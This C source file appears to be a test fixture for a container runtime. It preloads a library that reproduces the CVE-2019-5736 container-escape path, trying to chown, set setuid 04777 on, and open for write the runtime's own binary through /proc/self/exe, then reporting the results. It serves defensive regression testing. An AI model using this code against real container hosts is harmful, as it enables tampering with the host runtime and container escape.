/* SPDX-License-Identifier: MIT */
/*
 * The CVE-2019-5736 attack, as a library an image preloads
 * (/etc/ld.so.preload) into a container command that is /proc/self/exe:
 * that command is the runtime's own binary, run by the image's dynamic
 * loader, so this constructor runs inside it and opens /proc/self/exe.
 * It reports what it could do to that file and exits. The test compiles
 * it (cc -shared -fPIC) and copies it into the image with the loader and
 * homo's libraries.
 *
 *   attack: dev=D ino=I chown=ok|ERR chmod=ok|ERR write=ok|ERR
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *res(int r)
{
	return r == 0 ? "ok" : strerror(errno);
}

__attribute__((constructor)) static void attack(void)
{
	struct stat st;
	int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), w;

	if (fd < 0 || fstat(fd, &st) < 0) {
		printf("attack: open=%s\n", strerror(errno));
		_exit(0);
	}
	printf("attack: dev=%llu ino=%llu", (unsigned long long)st.st_dev,
	       (unsigned long long)st.st_ino);
	/* chown first: it would clear a setuid bit set before it */
	printf(" chown=%s", res(fchown(fd, 1000, 1000)));
	printf(" chmod=%s", res(fchmod(fd, 04777)));
	/* a running binary: ETXTBSY, until it has exited */
	w = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
	printf(" write=%s\n", w < 0 ? strerror(errno) : "ok");
	fflush(stdout);
	_exit(0);
}
